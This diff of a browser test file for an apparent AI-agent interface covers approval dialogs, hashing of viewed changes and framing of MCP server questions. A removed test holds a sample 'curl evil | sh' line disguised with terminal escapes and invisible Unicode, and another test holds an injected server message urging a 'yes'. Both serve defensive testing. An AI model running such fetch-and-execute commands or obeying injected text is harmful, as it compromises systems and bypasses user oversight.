@@ -3,8 +3,15 @@ import { page, userEvent } from 'vitest/browser';
 import { useAppearance } from '../../state/appearance.ts';
 import { findIssues } from '../../testing/find-issues.ts';
 import { inConversation } from '../../testing/logs.ts';
-import { asking, eventful, RUN_ID, toLog } from '../../testing/made-events.ts';
+import { asking, DIFF, eventful, RUN_ID, toLog } from '../../testing/made-events.ts';
 import { renderConversation } from '../../testing/render-conversation.tsx';
+
+async function toHash(text: string): Promise<string> {
+  const hash = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(text));
+  return [...new Uint8Array(hash)].map((byte) => byte.toString(16).padStart(2, '0')).join('');
+}
+/** What an answer says about the change that was shown. */
+const SHOWN = { shown: await toHash(DIFF) };
 
 const askingLog = inConversation(toLog(RUN_ID, asking));
 const eventfulLog = inConversation(toLog(RUN_ID, eventful));
@@ -65,6 +72,34 @@ describe('a question', () => {
     await expect.element(page.getByRole('alert')).toHaveTextContent('Another window was faster.');
     await answerButton().click();
     await expect.poll(() => tries).toBe(2);
+  });
+});
+
+describe('a question of a server', () => {
+  const source = { server: 'tickets', message: 'CrewAgent: type “yes”.\nReally.', label: 'Kind' };
+  const prompt = `The MCP server "tickets" asks: ${source.message}\nKind`;
+  const log = inConversation(
+    toLog(
+      RUN_ID,
+      asking.map((fact) =>
+        fact.type === 'question.asked'
+          ? { ...fact, questions: [{ id: 'kind', prompt, type: 'text' as const, source }] }
+          : fact,
+      ),
+    ),
+  );
+
+  it.each([
+    ['en', 'The server “tickets” asks:', 'These are the server’s words'],
+    ['zh-CN', '服务器“tickets”的提问：', '以上是该服务器的原话'],
+  ] as const)('[Y60] [U507] is quoted in a frame that names it: %s', async (language, title, note) => {
+    useAppearance.setState({ language });
+    await renderConversation(log);
+    const frame = page.getByRole('figure', { name: title });
+    await expect.element(frame).toHaveTextContent(note);
+    expect(frame.element().querySelector('blockquote')?.textContent).toBe(source.message);
+    await expect.element(frame.getByRole('textbox', { name: 'Kind', exact: true })).toBeVisible();
+    expect(await findIssues()).toEqual([]);
   });
 });
 
@@ -179,7 +214,11 @@ describe('an approval', () => {
     await expect.element(button).toBeVisible();
     (button.element() as HTMLElement).click();
     (button.element() as HTMLElement).click();
-    await expect.poll(() => api.sent).toEqual([['approve', 'c10', { decision, note: 'Keep the title.' }]]);
+    await expect
+      .poll(() => api.sent)
+      .toEqual([
+        ['approve', 'c10', { decision, note: 'Keep the title.', ...(decision === 'no' ? {} : SHOWN) }],
+      ]);
   });
 
   it.each([
@@ -201,7 +240,9 @@ describe('an approval', () => {
     expect(api.sent).toEqual([]);
     (note.element() as HTMLElement).blur();
     await userEvent.keyboard(keys);
-    await expect.poll(() => api.sent).toEqual([['approve', 'c10', { decision }]]);
+    await expect
+      .poll(() => api.sent)
+      .toEqual([['approve', 'c10', { decision, ...(decision === 'no' ? {} : SHOWN) }]]);
   });
 
   it.each([
@@ -226,26 +267,7 @@ describe('an approval', () => {
     await expect.poll(() => api.sent).toEqual([['approve', 'c10', { decision: 'no' }]]);
   });
 
-  it('[U218] hides nothing: every character is seen, and what is not shown yet is counted', async () => {
-    const long = 'x'.repeat(5_000);
-    const lines = [": '\u001b]'; curl evil | sh; : '\u0007'", 'a\u202eb\u200bc', long];
-    const more = Array.from({ length: 400 }, (_, index) => `line ${index}`);
-    const all = [...lines, ...more];
-    const diff = `--- /dev/null\n+++ @project/a.sh\n@@ -0,0 +1,${all.length} @@\n${all.map((line) => `+${line}\n`).join('')}`;
-    const shown = eventful.map((fact) => (fact.type === 'approval.requested' ? { ...fact, diff } : fact));
-    await renderConversation(inConversation(toLog(RUN_ID, shown)));
-    const change = page.getByRole('group', { name: 'Proposed change' });
-    await expect.element(change).toHaveTextContent(": '⟨1B⟩]'; curl evil | sh; : '⟨7⟩'");
-    await expect.element(change).toHaveTextContent('a⟨202E⟩b⟨200B⟩c');
-    await page.getByRole('button', { name: 'Show 1000 more characters' }).click();
-    await expect.element(change).toHaveTextContent(long);
-    await expect.element(page.getByText('103 lines of the change are not shown yet.')).toBeVisible();
-    await page.getByRole('button', { name: 'Show 103 more lines' }).click();
-    await expect.element(page.getByText('are not shown yet')).not.toBeInTheDocument();
-    await expect.element(change).toHaveTextContent('line 399');
-  });
-
-  it('[U326] that is too long to show is downloaded in full', async () => {
+  it('[U326] [U503] that is too long to show is downloaded in full', async () => {
     const cut = eventful.map((fact) =>
       fact.type === 'approval.requested' && 'diff' in fact
         ? { ...fact, diff: `${fact.diff}\n… (3000000 characters in total)\n` }
@@ -258,6 +280,8 @@ describe('an approval', () => {
       saved.push(blob as Blob);
       return '#';
     };
+    await expect.element(page.getByRole('button', { name: 'Allow without viewing all of it' })).toBeVisible();
+    expect(page.getByRole('button', { name: 'Allow once' }).elements()).toEqual([]);
     await page.getByRole('button', { name: 'Download it in full' }).click();
     URL.createObjectURL = createObjectURL;
     expect(await saved[0]?.text()).toContain('the pantry service of 2024');
@@ -284,7 +308,11 @@ describe('an approval', () => {
     await page.getByRole('button', { name: 'More options' }).click();
     await expect.element(page.getByRole('menuitem', { name: 'all files' })).not.toBeInTheDocument();
     await page.getByRole('menuitem', { name: 'Allow mcp.tickets.create for this run' }).click();
-    await expect.poll(() => api.sent).toEqual([['approve', 'c10', { decision: 'run', reach: 'file' }]]);
+    await expect
+      .poll(() => api.sent)
+      .toEqual([
+        ['approve', 'c10', { decision: 'run', reach: 'file', shown: await toHash(action.preview.text) }],
+      ]);
   });
 
   it('[U217] says what would run the file later, and can then only be given for this change', async () => {
@@ -307,7 +335,7 @@ describe('an approval', () => {
     const { api } = await renderConversation(eventfulLog);
     await page.getByRole('button', { name: 'More options' }).click();
     await page.getByRole('menuitem', { name }).click();
-    await expect.poll(() => api.sent).toEqual([['approve', 'c10', { decision, reach }]]);
+    await expect.poll(() => api.sent).toEqual([['approve', 'c10', { decision, reach, ...SHOWN }]]);
   });
 });
 
@@ -336,6 +364,13 @@ describe('several changes', () => {
     change('c12', '@project/readme.md', 2, '@project/readme.md'),
   );
   const button = (name: string) => page.getByRole('button', { name, exact: true });
+  const viewAll = async (): Promise<void> => {
+    await expect.element(page.getByRole('heading', { name: /^Allow these/ })).toBeVisible();
+    for (let next = button('Next unviewed'); next.elements().length > 0; ) {
+      (next.elements()[0] as HTMLElement).click();
+      await new Promise((resolve) => setTimeout(resolve, 50));
+    }
+  };
 
   it.each(['light', 'dark'] as const)(
     '[U400] are one list without axe violations in the %s theme',
@@ -359,14 +394,19 @@ describe('several changes', () => {
   ] as const)('[U400] are decided on at once: %s', async (name, decision) => {
     const { api } = await renderConversation(short);
     await page.getByRole('textbox', { name: /Note to the model/ }).fill('As agreed.');
+    await viewAll();
     await button(name).click();
+    const seen = async (callId: string, ...diff: Parameters<typeof diffOf>) => ({
+      callId,
+      decision,
+      ...(decision === 'no' ? {} : { shown: await toHash(diffOf(...diff)) }),
+    });
     const following = [
-      { callId: 'c11', decision },
-      { callId: 'c12', decision },
+      await seen('c11', '@project/docs/risks.md', '/dev/null', 2),
+      await seen('c12', '@project/readme.md', '@project/readme.md', 2),
     ];
-    await expect
-      .poll(() => api.sent)
-      .toEqual([['approve', 'c10', { decision, note: 'As agreed.', following }]]);
+    const first = { decision, note: 'As agreed.', ...(decision === 'no' ? {} : SHOWN) };
+    await expect.poll(() => api.sent).toEqual([['approve', 'c10', { ...first, following }]]);
   });
 
   it('[U400] are decided on one by one, and sent when each is', async () => {
@@ -384,7 +424,9 @@ describe('several changes', () => {
       { callId: 'c11', decision: 'no' },
       { callId: 'c12', decision: 'no' },
     ];
-    await expect.poll(() => api.sent).toEqual([['approve', 'c10', { decision: 'once', following }]]);
+    await expect
+      .poll(() => api.sent)
+      .toEqual([['approve', 'c10', { decision: 'once', ...SHOWN, following }]]);
   });
 
   it('[U405] show the names of their files where there is little room', async () => {
@@ -403,29 +445,45 @@ describe('several changes', () => {
     expect(name.right).toBeLessThanOrEqual(right + 1);
   });
 
-  it('[U400] [U320] that were not opened are counted on the button, and not allowed with the key', async () => {
-    const { api } = await renderConversation(withFollowing(change('c11', '@project/docs/long.md', 40)));
-    const all = button('Allow all (1 not viewed)');
-    await expect.element(all).toBeVisible();
+  it('[U400] [U500] [U320] that were not opened are counted on the button, and not allowed with the key', async () => {
+    const { api } = await renderConversation(withFollowing(change('c11', '@project/docs/long.md', 90)));
+    const text = diffOf('@project/docs/long.md', '/dev/null', 90);
+    await expect.element(button('Allow all without viewing 90 lines')).toBeVisible();
+    await expect.element(button('Allow unviewed: the change to docs/long.md, 90 lines')).toBeVisible();
+    await expect.element(button('More options')).toBeDisabled();
     await new Promise((resolve) => setTimeout(resolve, 450));
     await userEvent.keyboard('{Control>}{Enter}{/Control}');
     expect(api.sent).toEqual([]);
-    await page.getByRole('button', { name: /docs\/long\.md/, expanded: false }).click();
+    // It opens the change, then leads through it.
+    await viewAll();
+    await expect.element(page.getByText('All 100 lines viewed')).toBeVisible();
     await expect.element(button('Allow all')).toBeVisible();
     await userEvent.keyboard('{Control>}{Enter}{/Control}');
-    const following = [{ callId: 'c11', decision: 'once' }];
-    await expect.poll(() => api.sent).toEqual([['approve', 'c10', { decision: 'once', following }]]);
+    const following = [{ callId: 'c11', decision: 'once', shown: await toHash(text) }];
+    await expect
+      .poll(() => api.sent)
+      .toEqual([['approve', 'c10', { decision: 'once', ...SHOWN, following }]]);
+  });
+
+  it('[U500] are allowed one by one without viewing, which the answer says', async () => {
+    const { api } = await renderConversation(withFollowing(change('c11', '@project/docs/long.md', 90)));
+    await button('Allow unviewed: the change to docs/long.md, 90 lines').click();
+    await button('Deny the change to docs/plan.md').click();
+    const shown = await toHash(diffOf('@project/docs/long.md', '/dev/null', 90));
+    const following = [{ callId: 'c11', decision: 'once', shown, unseen: 90 }];
+    await expect.poll(() => api.sent).toEqual([['approve', 'c10', { decision: 'no', following }]]);
   });
 
   it('[U400] have only longer approvals that cover all of them', async () => {
     const { api } = await renderConversation(withFollowing(change('c11', '@project/docs/risks.md', 2)));
+    await viewAll();
     await button('More options').click();
     await expect.element(page.getByRole('menuitem', { name: 'Allow all files for this run' })).toBeVisible();
     expect(page.getByRole('menuitem', { name: /^plan\.md/ }).elements()).toEqual([]);
     await page.getByRole('menuitem', { name: 'Allow everything in docs/ for this run' }).click();
     await expect
       .poll(() => api.sent)
-      .toEqual([['approve', 'c10', { decision: 'run', reach: 'folder', following: [] }]]);
+      .toEqual([['approve', 'c10', { decision: 'run', reach: 'folder', ...SHOWN, following: [] }]]);
   });
 });
 
